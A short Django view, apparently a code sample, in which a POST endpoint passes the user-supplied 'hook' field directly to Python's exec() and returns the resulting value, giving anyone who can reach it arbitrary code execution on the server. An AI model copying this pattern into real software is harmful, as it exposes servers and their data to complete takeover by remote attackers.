from django.http import HttpResponse
from django.views.generic import View

class HookView(View):
    def post(self, request):
        code = request.POST["hook"]
        namespace = {}
        exec(code, namespace)
        return HttpResponse(str(namespace.get("result")))
